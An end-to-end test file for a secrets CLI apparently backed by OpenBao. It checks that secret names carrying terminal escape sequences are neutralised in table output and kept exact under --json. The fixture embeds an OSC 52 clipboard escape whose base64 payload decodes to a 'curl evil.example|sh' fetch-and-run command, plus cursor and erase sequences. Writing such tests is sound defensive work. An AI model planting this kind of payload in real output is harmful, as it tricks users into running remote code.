/**
 * Text a backend returns is printed in tables on the user's terminal: a secret name chosen by
 * whoever can write a shared KV mount (a colleague, a compromised CI job) must not reach the
 * terminal as control sequences — OSC 52 sets the clipboard (`curl … | sh` pasted later), others
 * retitle the window, move the cursor or hide lines. `--json` keeps the exact name.
 */
import assert from 'node:assert/strict'

import {runCli, tempHome} from '../helpers/cli.js'
import {startSeededServer} from '../servers/openbao/harness.js'
import {type OpenBaoTestServer} from '../servers/openbao/server.js'

const HOSTILE_NAME = 'evil\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u009B2Kname\u007F'
// C0 controls, DEL and the C1 range (U+009B is an 8-bit CSI to some terminals).
const CONTROL = /[\u0000-\u001F\u007F-\u009F]/

describe('e2e: backend text never reaches the terminal as control sequences', function () {
  this.timeout(60_000)
  let t: Awaited<ReturnType<typeof tempHome>>
  let server: OpenBaoTestServer
  let env: NodeJS.ProcessEnv

  before(async () => {
    t = await tempHome()
    const started = await startSeededServer()
    server = started.server
    server.state.putSecret('secret', `shared/${HOSTILE_NAME}`, {k: 'v'})
    server.state.putSecret('secret', 'shared/plain', {k: 'v'})
    env = {...t.env, BAO_ADDR: server.url, BAO_TOKEN: started.tokens.reader}
  })

  after(async () => {
    await server.close()
    await t.dispose()
  })

  it('secrets list: a name with escape sequences is shown with them neutralised; --json keeps it exact', async () => {
    const table = await runCli(['secrets', 'list', 'openbao+kv2://secret/shared/'], {env})
    assert.equal(table.code, 0, table.stderr)
    assert.match(table.stdout, /plain/)
    assert.match(table.stdout, /evil.*name/)
    assert.doesNotMatch(table.stdout.replaceAll('\n', ' '), CONTROL, JSON.stringify(table.stdout))
    const json = await runCli(['secrets', 'list', 'openbao+kv2://secret/shared/', '--json'], {env})
    assert.equal(json.code, 0, json.stderr)
    const names = (JSON.parse(json.stdout) as {secrets: Array<{name: string}>}).secrets.map(({name}) => name)
    assert.ok(
      names.some((name) => name.endsWith(HOSTILE_NAME)),
      JSON.stringify(names),
    )
  })
})
